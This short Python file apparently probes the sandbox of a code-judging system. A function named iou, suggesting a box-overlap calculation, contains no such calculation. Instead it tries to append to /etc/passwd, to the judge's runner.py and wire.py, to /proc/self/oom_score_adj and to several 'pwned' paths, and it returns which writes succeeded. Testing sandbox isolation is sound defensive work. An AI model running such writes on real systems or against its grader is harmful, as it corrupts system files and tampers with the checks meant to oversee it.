"""Try to write everywhere but /tmp; returns the paths that accepted a write."""


def iou(box_a, box_b):
    written = []
    for path in ("/pwned", "/opt/cvjudge/runner.py", "/opt/cvjudge/wire.py", "/etc/passwd",
                 "/usr/lib/pwned", "/var/tmp/pwned", "/home/pwned", "/dev/shm/pwned",
                 "/dev/pwned", "/run/pwned", "/proc/self/oom_score_adj"):
        try:
            with open(path, "a") as handle:
                handle.write("0")
            written.append(path)
        except OSError:
            pass
    return written
